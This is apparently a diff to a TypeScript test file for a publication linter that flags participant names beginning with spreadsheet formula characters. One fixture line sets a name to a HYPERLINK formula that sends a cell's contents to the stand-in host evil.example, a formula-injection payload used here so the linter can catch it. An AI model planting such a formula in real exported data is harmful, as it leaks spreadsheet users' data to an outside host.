@@ -200,6 +200,12 @@ describe('the publication linter (spec §7.3): each rule fires on a crafted viol
     ]);
     expect(findings[1]!.message).toContain('proveit participant rename --season 1 --participant p-ada');
     expect(findings[0]!.message).toContain('proveit participant reference --season 1 --participant ref-1');
+    // The console words the finding from its facts, never from the CLI's sentence (docs/console.md "Screens").
+    expect(findings.map((f) => f.facts)).toEqual([
+      { field: 'model', character: '-' },
+      { field: 'agent', character: '=' },
+      { field: 'agent', character: '@' },
+    ]);
     const renamed = craftedDocument({
       names: { 'p-ada': '=HYPERLINK("http://evil.example/?x="&A1,"open")' },
       displayNames: new Map([['p-ada', 'Agent A']]),
